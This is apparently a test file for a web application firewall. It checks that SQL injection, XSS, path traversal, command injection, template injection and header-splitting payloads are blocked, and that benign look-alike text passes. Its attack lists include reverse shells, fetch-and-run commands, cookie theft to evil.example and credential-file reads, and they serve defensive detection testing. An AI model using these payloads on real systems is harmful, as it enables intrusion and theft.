import t from 'tap'
import type { Test } from 'tap'
import { ruleSet, inQuery, inBody, explain, families, BROWSER } from './test-helpers.ts'

/**
 * Each family against attacks written for this test (several techniques and
 * dialects per family) and against benign text built to look like them. At
 * paranoia level 1 every attack must block (score ≥ 5) with a match of its
 * family, and every look-alike must not match at all.
 */

const pl1 = ruleSet(1)
const pl2 = ruleSet(2)

function attacks (t: Test, family: string, list: string[]): void {
  for (const payload of list) {
    const r = inQuery(pl1, payload)
    t.ok(r.score >= 5 && families(r).includes(family), `${family}: ${payload} → ${explain(r)}`)
  }
}

function benign (t: Test, list: string[], level = pl1): void {
  for (const text of list) {
    const r = inQuery(level, text)
    t.equal(r.score, 0, `${text} → ${explain(r)}`)
  }
}

t.test('SQL injection', async (t) => {
  attacks(t, 'sqli', [
    '\' or 1=1--', '1\' or \'1\'=\'1', '" or ""="', 'admin\'--', 'admin\' #', 'admin\'/*', 'x\';--',
    '1 or 1=1', '1) or (1=1', '-5 OR 2>1 --', '1 and 1=1', '10 AND 7 LIKE 7',
    '-1 union select 1,2,3--', '\' union all select null,null,version()--', '0 UNION SELECT username, password FROM users',
    '1 union(select table_name from information_schema.tables)', '\') UNION SELECT @@version#',
    '1; drop table users', '\'; DELETE FROM orders WHERE 1=1; --', '1; exec master..xp_cmdshell \'whoami\'',
    '\'; insert into admins values (\'eve\',\'x\')--', '1; update accounts set balance=0 where 1=1',
    '1 and sleep(5)', '1\' and sleep(5)#', '\'; waitfor delay \'0:0:5\'--', '1 AND (SELECT * FROM (SELECT(SLEEP(5)))a)',
    '1; select pg_sleep(10)', '1 and benchmark(5000000,md5(1))', '\' and 1=dbms_pipe.receive_message(\'a\',10)--',
    '\' and extractvalue(1,concat(0x7e,version()))--', '\' and updatexml(null,concat(0x3a,user()),null)-- -',
    '1 and 1=convert(int,(select top 1 name from sysobjects))', '\' UNION SELECT load_file(\'/etc/hosts\'),2--',
    '\' into outfile \'/var/www/shell.php\'--', 'select * from information_schema.tables',
    '\' or username like \'%adm', '1 and ascii(substring((select user()),1,1))>64', 'char(97)+char(100)+char(109)',
    '\' || (select password from users) || \'', 'x\' AND email IS NULL; --', '\' HAVING 1=1 --', '\' order by 3--',
    '1 ORDER BY 10--', '\' GROUP BY id HAVING 1=1--', '1\' AND \'a\'<>\'b', '1 or true--', '\'=\'', '\' or \'\'=\'',
    '\' and exists(select * from users)--', '\' or 1 in (select 1)--', '\' or \'\'-\'', '\' or \'\'^\'', '1 AND 5=6',
    '1 and user_name() = \'dbo\'', '1 RLIKE (SELECT (CASE WHEN (1=1) THEN 1 ELSE 0x28 END))', '\') or true--',
    '1 procedure analyse(extractvalue(rand(),concat(0x3a,version())),1)', 'admin")) or (("1"="1',
    '\', $or: [ {}, { \'a\':\'a', 'true, $where: \'sleep(100)\'', 'db.accounts.find({})', '1; return this.role == \'admin\'; sleep(500)', '\' union select -1,user()--', '" UNION ALL SELECT ~0, table_name FROM x--',
  ])
})

t.test('NoSQL operators in parameter names', async (t) => {
  for (const name of ['user[$ne]', 'password[$regex]', 'q[$where]']) {
    const r = inQuery(pl1, 'x', name)
    t.ok(r.score >= 5 && families(r).includes('sqli'), `${name} → ${explain(r)}`)
  }
  t.equal(inQuery(pl1, 'x', 'filter[price]').score, 0)
})

t.test('SQL words in prose, names with apostrophes and ordinary values pass', async (t) => {
  benign(t, [
    'O\'Brien', 'Mr. O\'Neil-Smith\'s order #1234', 'I\'m here and it\'s fine, don\'t worry', 'select a plan',
    'Please select a plan from the list below', '1=1 in math text is trivially true', 'Workers\' union meeting on Friday',
    'Dogs\' -- great friends', 'Parents\' limit 5 per day', 'Rock \'n\' roll and 2+2=4', 'He said "hello" or "hi" and left',
    'where id = 1', 'The union select committee met', 'SELECT is a SQL keyword', 'drop me an email; update your profile',
    'don\'t; won\'t; can\'t', '2 or 3 people', '3 or more = better', 'Call me at 555-1234 or 555-5678',
    'What\'s the difference between "and" and "or"?', 'Our "union" is strong', 'SELECT your seat; UPDATE later',
    'order by date', 'Sort: order by price desc', 'I\'d like 2 and 3 = 5 apples', 'Tom\'s "best" pizza & wings',
    'It\'s 5 o\'clock; time to go', '5\' 10" tall', 'cost: 1,000 - 500 = 500', '=SUM(A1:A10)', 'sleep (8 hours) is good',
    'I need more sleep (lots of it)', 'Enter your name and password', 'char 5', 'count(3) items', 'user@example.com',
    'P@ssw0rd!#2024', 'from A to B', 'delete my account please', '0x742d35Cc6634C0532925a3b844Bc454e4438f44e',
    'Ask me anything: what\'s 7 or 8?', 'Guns N\' Roses - Sweet Child O\' Mine',
  ])
})

t.test('XSS', async (t) => {
  attacks(t, 'xss', [
    '<script>alert(1)</script>', '<ScRiPt src=//evil.example/x.js></script>', '<img src=x onerror=alert(1)>',
    '<svg/onload=alert(1)>', '" onmouseover="alert(1)', '\' autofocus onfocus=alert(1) x=\'',
    'javascript:alert(document.cookie)', 'JaVaScRiPt:fetch(\'//evil\')', '<iframe src="http://evil.example">',
    '\';alert(String.fromCharCode(88,83,83))//', '"-alert(1)-"', '<body onload=alert(\'XSS\')>',
    '<a href="javascript&colon;alert(1)">x</a>', '<details open ontoggle=prompt(1)>', '<video><source onerror="alert(1)">',
    'data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==', '<object data="javascript:alert(1)">',
    '<div style="width: expression(alert(1))">', '"><img src=x onerror=confirm(1)>', '<input onfocus=eval(atob(\'YQ==\')) autofocus>',
    '</title><script>document.location=\'//evil/?\'+document.cookie</script>', '<embed src=//evil/x.swf>',
    '<meta http-equiv="refresh" content="0;url=javascript:alert(1)">', '<base href="//evil.example/">',
    '<x onpointerenter=alert(1)>hover</x>', '<form action="javascript:alert(1)"><button>go</button></form>',
    '<math><mtext><table><mglyph><style><img src=x onerror=alert(1)>', 'x" style="behavior:url(#default#time2)" onbegin="alert(1)',
    'prompt.call(window, document.domain)', 'confirm.apply(this,[document.domain])', '(prompt)(7)', 'alert?.(origin)',
    'top[\'con\'+\'firm\'](7)', 'self[atob(\'YWxlcnQ=\')](1)', 'Function(\'\\x63onfirm(7)\')()', '[7].some(confirm(7))',
    'x"+onfocus=prompt(7)+autofocus+x="', 'new Image().src=\'//evil.example/?c=\'+document[\'cookie\']', '<a href="javascript: void 0,prompt(1)">', 'javascript: this, alert(1)',
  ])
})

t.test('text with angle brackets, quotes and HTML without active content passes', async (t) => {
  benign(t, [
    'a < b and c > d', 'I <3 New York', '<p>Hello <b>world</b></p>', '<a href="https://example.com">link</a>',
    'The book "JavaScript: The Good Parts"', 'learn java script: basics', 'Use the onclick= handler carefully',
    'alert me when the price drops (for real)', 'The script tag is used for JavaScript', 'Click on "Submit" to continue',
    '<ul><li>one</li><li>two</li></ul>', 'x = y + z; print(x)', 'He said, "on Monday" — then left', 'Confirm (yes/no)',
    'The data: text/html is fine', 'Event: online = true', '<img src="/static/cat.png" alt="a cat">', 'Styles: bold, italic',
    'I\'m going on a trip; once=enough', 'document the cookie policy', '<br/> line break',
    'JavaScript: Basics of the Language', 'JavaScript:+Basics+of+the+Language', 'javascript: a beginner\'s guide', 'Function (math): f(x) = 2x', 'window [left] (open)',
    'call me (please)', 'Alert: the call is at 5', 'top [10] (list)', 'window[0] (first)', 'this[x] (see note)', 'Enter your password (confirm) (min 8 chars)', 'AI (prompt) (beta)', 'The C++ FAQ', 'x+y+z', 'one + two = three',
  ])
})

t.test('path traversal and file inclusion', async (t) => {
  attacks(t, 'lfi', [
    '../../../../etc/passwd', '..%2f..%2f..%2fetc%2fpasswd', '%252e%252e%252f%252e%252e%252fboot.ini', '....//....//etc/passwd',
    '..\\..\\..\\windows\\win.ini', '/etc/shadow', 'php://filter/convert.base64-encode/resource=index.php', 'file:///etc/passwd',
    'http://evil.example/shell.txt?', '..%c0%af..%c0%afetc/hosts', 'expect://id', 'phar://uploads/x.jpg/shell',
    '/proc/self/environ', 'C:\\Windows\\System32\\drivers\\etc\\hosts', '../../.env', '../../../home/app/.ssh/id_rsa',
    'zip://archive.zip#shell.php', '/var/log/apache2/access.log', '..;/..;/WEB-INF/web.xml', '/static/../WEB-INF/classes/app.properties',
    'http://169.254.169.254/latest/meta-data/iam/security-credentials/', 'gopher://127.0.0.1:6379/_FLUSHALL',
    'http://metadata.google.internal/computeMetadata/v1/instance/',
  ])
})

t.test('relative paths and file names in prose pass', async (t) => {
  benign(t, [
    'see ./docs/readme.md', 'path/to/file.txt', '/usr/share/doc', 'Read the docs at /api/v1/docs',
    'c:\\users\\bob\\documents\\report.docx', 'C:\\Program Files\\App\\app.exe', 'https://example.com/search?q=shoes&page=2', 'create a .env file',
    'edit web.config in IIS', 'passwd reset link', 'etc. etc.', 'My home/office setup', 'Program files are large',
    '2023..2024', 'wait...', 'https://example.com/?', 'file: report.pdf',
  ])
  const one = inQuery(pl1, '../images/logo.png')
  t.ok(one.score > 0 && one.score < 5, 'one ../ is suspicious but does not block alone')
})

t.test('OS command injection', async (t) => {
  attacks(t, 'rce', [
    ';cat /etc/passwd', '| id', '& whoami', '`id`', '$(whoami)', '127.0.0.1; ls -la', '127.0.0.1 && ping -c 3 evil.example',
    ';c\'a\'t /e\'t\'c/pa\'s\'swd', ';cat${IFS}/etc/passwd', '{cat,/etc/passwd}', '|| wget http://evil.example/x.sh -O- | sh',
    '; bash -i >& /dev/tcp/10.0.0.1/4444 0>&1', 'a;w^h^o^a^m^i', 'x & cmd.exe /c dir', 'x | powershell -enc SQBFAFgA',
    '; nc -e /bin/sh 10.0.0.1 4444', '() { :; }; /bin/bash -c \'id\'', 'x\nuname -a', 'x; sleep 10', 'a|/usr/bin/id',
    'foo && curl http://evil.example/x | bash', '1;python3 -c \'import os\'', '$(curl -s evil.example)', 'x; echo $PATH',
    '& net user hacker P4ss /add', 'a; rm -rf /tmp/x', '; perl -e \'print 1\'', 'x|certutil -urlcache -f http://evil/x.exe x.exe',
    ';/???/??t /???/??ss??', '| cat /e?c/sha*', '& /b?n/c?t /etc/hosts', ';cat$x /etc$x/shadow$x', '$(printf \'di\'|rev)',
    '; cat /etc/sh\u2019ad\u2019ow', '127.0.0.1 && ls /var', '& $z id', '|| set /a 6*7',
  ])
})

t.test('separators and command names in prose pass', async (t) => {
  benign(t, [
    'Java & Python developer', 'cats & dogs; id card required', 'Tom & Jerry; cat lovers unite', 'Shipping; free',
    'Ready; set; go!', 'first; last', 'Meet me at 5; bring snacks', 'rock & roll | jazz', 'Salt & pepper; sleep 8 hours',
    'Skills: Java & Python', 'Q&A | Help', 'Run `git status` to check', 'function () { return 1 }', 'A; B; C',
    'I\'d like tea', 'who we are', 'id: 12345', 'type: text', 'more info | less noise', 'Price: $5 (USD)', '${name} is a placeholder',
    'echo chamber; the film', 'R&D; find out more', 'Net user growth',
    'What? Really?!', 'see /api/v1/items?page=2 and /api/v2/*', 'match *.txt and /docs/*.md', '5 * 3 = 15', 'a/b?c=d',
    'files under /*/* are listed', 'Cost: $5 per item; $x is a variable', 'It\u2019s a book\u2019s title', 'exclude /usr/* and /proc/*', '/bin/*', 'rsync --exclude=/proc/* /',
  ])
  const textarea = inBody(pl1, 'application/x-www-form-urlencoded', `notes=${encodeURIComponent('Columns;\nid\nname\nemail')}`)
  t.equal(textarea.score, 0, `a textarea may list "id" on a line of its own: ${explain(textarea)}`)
})

t.test('code injection', async (t) => {
  attacks(t, 'code', [
    '{{7*7}}', '${7*7}', '<%= 7*7 %>', '#{7*7}', '{{7*\'7\'}}', '{{config.items()}}', '{{\'\'.__class__.__mro__[1].__subclasses__()}}',
    '${jndi:ldap://evil.example/a}', '${${::-j}${::-n}${::-d}${::-i}:ldap://x}', '${${lower:j}ndi:rmi://evil/x}',
    '<?php system($_GET[\'c\']); ?>', '<?= `id` ?>', 'O:8:"stdClass":1:{s:1:"a";s:1:"b";}', 'require(\'child_process\').exec(\'id\')',
    '__proto__[admin]=1', 'constructor.prototype.isAdmin', '${T(java.lang.Runtime).getRuntime().exec(\'id\')}',
    '%{(#_=\'multipart/form-data\').(#dm=@ognl.OgnlContext@DEFAULT_MEMBER_ACCESS)}', '<!--#exec cmd="ls" -->',
    '<!DOCTYPE foo [<!ENTITY xxe SYSTEM "file:///etc/passwd">]>', 'rO0ABXNyABFqYXZhLnV0aWwuSGFzaE1hcA==',
    'eval(base64_decode(\'ZWNobyAx\'))', '__import__(\'os\').system(\'id\')', '{{self._TemplateReference__context}}',
    '{{ lipsum.__globals__.os.popen(\'id\').read() }}', 'this.constructor.constructor(\'return process\')()',
    '<%= system("id") %>', '{% import os %}', 'x|attr("__class__")', 'file_put_contents(\'x.php\', $x)',
    '*)(uid=*))(|(uid=*', 'admin*)((|userpassword=*)', '<!--#include virtual="/etc/passwd"-->',
    '{"$type":"System.Windows.Data.ObjectDataProvider, PresentationFramework","MethodName":"Start"}',
    '<#assign cmd="freemarker.template.utility.Execute"?new()>${cmd("id")}', '<!DOCTYPE r SYSTEM "http://evil.example/r.dtd"><r/>',
    '*(|(mail=*))', '(&(cn=admin)(!(&(1=0)(pwd=x))))', 'subject\r\nRCPT TO: <eve@evil.example>', 'x\nA001 FETCH 1:* (BODY[])',
    'news\r\nBcc: all@evil.example', 'cn:1.2.840.113556.1.4.803:=2',
  ])
})

t.test('templates, placeholders and code words in prose pass', async (t) => {
  benign(t, [
    'Hello {{name}}, welcome!', '{{ user.name }}', '${name} is a placeholder', 'Price ${price}', '#hashtag #love',
    'Ask me anything: what\'s 7*7?', 'The system (which is old) works', 'include the header (optional)', 'eval is evil',
    'prototype design', 'The constructor is called once', 'class A { constructor () {} }', 'Request your refund',
    '<?xml version="1.0" encoding="UTF-8"?><note>hi</note>', '<!DOCTYPE html>', 'O:8 ratio', 'rO0', 'import os',
    '(a|(b=c))', 'Sort by (date|name)', '<!DOCTYPE html PUBLIC "-//W3C//DTD XHTML 1.0 Strict//EN">', 'assign a new() owner',
    'quit smoking', 'To: the team, from: me', 'Agenda:\nQ3 status review', 'FY24 select vendors\nnext steps',
  ])
})

t.test('ordinary form and API values pass', async (t) => {
  benign(t, [
    '{"score":{"$gte":1000}}', '{"status":"A", "$or":[{"qty":{"$lt":30}}]}', 'db.users.find() example', '$or: either',
    'Great product!!! Would buy again :) 5/5', 'Didn\'t work as expected -- returned it.', 'Size runs small; order one size up.',
    'The \'premium\' version isn\'t worth $20 more.', 'Arrived on 12/03/2024 @ 3pm', 'I\'d rate it 4.5/5 & recommend it to friends',
    '123 Main St., Apt #4B', 'how to select all in excel', 'union station chicago', 'drop shipping business', 'python sleep function',
    'javascript alert box', 'cat food; dry vs wet', 'C# vs Java', 'onload event', '<div> vs <span>', '2*3=6', '2024-05-01T12:30:00Z',
    '3fa85f64-5717-4562-b3fc-2c963f66afa6', 'https://www.example.com/path/to/page?utm_source=newsletter&utm_medium=email#section-2',
    'data:image/png;base64,iVBORw0KGgoAAAANSUhEUgAAAAEAAAABCAYAAAAfFcSJAAAADUlEQVR42mNkYPhfDwAChwGA60e6kgAAAABJRU5ErkJggg==',
    '**bold** and _italic_ [link](https://x.y)', '```js console.log(\'hi\') ```', 'john.doe+tag@example.com', 'Côte d\'Ivoire',
    'People\'s Republic of China', 'Jean-Luc O\'Neill', 'AT&T', 'Johnson & Johnson; Pfizer', 'Tr0ub4dor&3', 'p@$$w0rd\'123',
    'Union Jack flag', 'Order by phone', 'Update: shipped', 'Delete account?', 'Having trouble logging in?',
    'She said \'yes\' and he said \'no\'', '"Quote" -- Author', 'It\'s the users\' choice; or is it?', 'Students\' union elections: vote now',
    'I\'m not sure if it\'s \'or\' or \'and\'', 'Add 1 cup flour + 2 eggs; mix well', 'The year 2000 - 1999 = 1', 'Je n\'ai pas d\'argent',
    '¿Dónde está la biblioteca?', 'Привет, как дела?', '🙂👍 thanks!', 'x=1&y=2', 'key=value; other=thing', 'echo park los angeles',
    'Run `npm install` then `npm start`', 'The sleep(ing) cat', 'Tom\'s diner | menu', 'size > 10 and color = red', 'price < 100 or rating >= 4',
    'score = 5 and level = 3', 'The function f(x) = x^2', 'Use {{ and }} for templates', '/home/user/documents/report.pdf',
    'http://localhost:3000/api/users?id=5', 'information about schemas', 'version 2.0 (beta)', '(see above) (and below = here)',
    'Hash: e3b0c44298fc1c149afbf4c8996fb92427ae41e4649b934ca495991b7852b855', 'f(x) = (x+1)*(x-1)',
  ])
})

t.test('realistic requests pass: consent and analytics cookies, GraphQL, rich text, forms, a plain-text message', async (t) => {
  const cookie = 'OptanonConsent=isGpcEnabled=0&datestamp=Mon+Jan+01+2024+12%3A00%3A00+GMT%2B0100&version=202301.1.0&isIABGlobal=false&hosts=&groups=C0001%3A1%2CC0002%3A0; ' +
    '__cf_bm=Xyz.abc-1700000000-0-AbC/dEf+ghI=; _fbp=fb.1.1700000000000.1234567890; ajs_user_id=%22user_42%22; wp-settings-1=libraryContent%3Dbrowse%26editor%3Dtinymce; ' +
    'PHPSESSID=abcd1234efgh5678; _hjSessionUser_123=eyJpZCI6ImFiYyIsImNyZWF0ZWQiOjE3MDAwMDAwMDAwMDB9'
  const head = pl1.inspect({ method: 'GET', path: '/account/settings', query: 'tab=privacy&utm_source=google&gclid=Cj0KCQjw-abc_DEF', headers: [...BROWSER, ['cookie', cookie], ['x-forwarded-for', '203.0.113.7, 10.0.0.1'], ['x-requested-with', 'XMLHttpRequest']] })
  t.equal(head.score, 0, explain(head))
  const bodies: Array<[string, string]> = [
    ['application/json', JSON.stringify({ query: 'query GetUser($id: ID!) { user(id: $id) { __typename name posts(first: 10, orderBy: {field: CREATED_AT, direction: DESC}) { edges { node { title } } } } }', variables: { id: '42' } })],
    ['application/json', JSON.stringify({ query: '{ __schema { types { name kind fields { name } } } }' })],
    ['application/json', JSON.stringify({ content: '<p>Hello <strong>world</strong></p><p><img src="/uploads/a.png" style="width: 100px; float: left" alt="pic"></p><p><a href="https://example.com" target="_blank" rel="noopener">link</a></p>', title: 'My "first" post — it\'s live!' })],
    ['application/json', JSON.stringify({ $schema: 'http://json-schema.org/draft-07/schema#', $ref: '#/definitions/x', type: 'object' })],
    ['application/json', JSON.stringify({ filter: { and: [{ field: 'status', op: '=', value: 'open' }, { field: 'age', op: '>=', value: 18 }] }, sort: '-created_at', select: ['id', 'name'], where: 'city = \'Paris\'' })],
    ['application/x-www-form-urlencoded', 'username=jdoe&password=Tr0ub4dor%263%27%21&remember=on&redirect=%2Fdashboard%3Ftab%3Dhome'],
    ['application/x-www-form-urlencoded', 'comment=I+love+this%21+Don%27t+change+a+thing%3B+seriously.+5%2F5&name=O%27Connor'],
  ]
  for (const [type, body] of bodies) {
    for (const level of [pl1, pl2]) {
      const r = inBody(level, type, body)
      t.ok(level === pl1 ? r.score === 0 : r.score < 5, `PL${level === pl1 ? 1 : 2} ${body.slice(0, 60)} → ${explain(r)}`)
    }
  }
  const letter = inBody(pl1, 'text/plain', 'Hi team,\n\nPlease review the report; the numbers look off -- especially Q3.\nid\nname\n\nThanks,\nMary O\'Hara')
  t.equal(letter.score, 0, explain(letter))
})

t.test('scanners are refused by their User-Agent; browsers and crawlers are not', async (t) => {
  for (const ua of ['sqlmap/1.7.2#stable (https://sqlmap.org)', 'Mozilla/5.00 (Nikto/2.1.6) (Evasions:None) (Test:Port Check)',
    'Mozilla/5.0 (compatible; Nmap Scripting Engine; https://nmap.org/book/nse.html)', 'Fuzz Faster U Fool v2.1.0',
    'gobuster/3.6', 'WPScan v3.8.25 (https://wpscan.com/wordpress-security-scanner)', 'masscan/1.3 (https://github.com/robertdavidgraham/masscan)']) {
    const r = pl1.inspect({ method: 'GET', path: '/', query: '', headers: [['host', 'a.example'], ['user-agent', ua]] })
    t.ok(r.score >= 5 && families(r).includes('scanner'), `${ua} → ${explain(r)}`)
  }
  for (const ua of [BROWSER[1]?.[1] as string, 'Mozilla/5.0 (iPhone; CPU iPhone OS 17_5 like Mac OS X) AppleWebKit/605.1.15 (KHTML, like Gecko) Version/17.5 Mobile/15E148 Safari/604.1',
    'Mozilla/5.0 (compatible; Googlebot/2.1; +http://www.google.com/bot.html)', 'curl/8.5.0', 'okhttp/4.12.0', 'PostmanRuntime/7.39.0']) {
    const r = pl1.inspect({ method: 'GET', path: '/', query: '', headers: [['host', 'a.example'], ['user-agent', ua]] })
    t.equal(r.score, 0, `${ua} → ${explain(r)}`)
  }
  const scripted = pl2.inspect({ method: 'GET', path: '/', query: '', headers: [['host', 'a.example'], ['user-agent', 'python-requests/2.32.3']] })
  t.ok(scripted.score > 0 && scripted.score < 5, 'PL2 notes a scripting client without blocking it')
})

t.test('every attack above is also caught at PL2, and the benign ones stay below the threshold there', async (t) => {
  for (const text of ['O\'Brien', 'select a plan', '1=1 in math text is trivially true', 'Workers\' union meeting on Friday',
    'Hello {{name}}, welcome!', 'a < b and c > d', 'cats & dogs; id card required', 'I\'d like tea', 'The union select committee met']) {
    const r = inQuery(pl2, text)
    t.ok(r.score < 5, `${text} → ${explain(r)}`)
  }
  t.ok(inQuery(pl2, '\' or 1=1--').score >= 5)
})

t.test('multi-line text in a body: agenda lines, "quit", "data" and list items are not mail commands', async (t) => {
  for (const text of ['Agenda:\nQ3 status review', '\nFY24 select vendors', 'Steps:\nv2 list endpoints', 'Fields:\nData\nName', 'I want to\nquit\nnow', 'Hi\nTo: the whole team\nBye']) {
    const r = inBody(pl1, 'application/json', JSON.stringify({ message: text }))
    t.equal(r.score, 0, `${JSON.stringify(text)} → ${explain(r)}`)
  }
  const smtp = inBody(pl1, 'application/json', JSON.stringify({ subject: 'hi\r\nRCPT TO: <eve@evil.example>' }))
  t.ok(smtp.score >= 5, `the SMTP envelope still is: ${explain(smtp)}`)
})

t.test('multi-line text in a body: lines that start like response headers are text; splitting lines are not', async (t) => {
  for (const text of ['Job title: Engineer\nLocation: Berlin', 'Parcel\r\nContent-Type: fragile goods', 'Dashboard\nRefresh: every 5 minutes', 'Attachment\nContent-Disposition: see the PDF', 'Hi all\nCc: the team\nThanks', 'Venue\nLocation: London: Canary Wharf']) {
    for (const [type, body] of [['application/json', JSON.stringify({ message: text })], ['application/x-www-form-urlencoded', `message=${encodeURIComponent(text)}`]] as const) {
      const r = inBody(pl1, type, body)
      t.equal(r.score, 0, `${type}: ${JSON.stringify(text)} → ${explain(r)}`)
    }
  }
  for (const text of [
    'x\r\nSet-Cookie: admin=1', 'x\r\nHTTP/1.1 200 OK\r\n', 'x\r\nContent-Length: 0\r\n\r\nHTTP/1.1 200 OK',
    '/next\r\nLocation: https://evil.example/', 'x\r\nLocation: //evil.example', 'x\r\nLocation: javascript:alert(1)', 'x\r\nRefresh: 0;url=https://evil.example',
    'x\r\nContent-Type: text/html\r\n\r\n<h1>hi</h1>', 'x\r\nContent-Disposition: attachment; filename=invoice.exe',
  ]) {
    const r = inBody(pl1, 'application/json', JSON.stringify({ message: text }))
    t.ok(r.score >= 5 && r.matches.some((m) => m.id === 1005), `${JSON.stringify(text)} → ${explain(r)}`)
  }
})
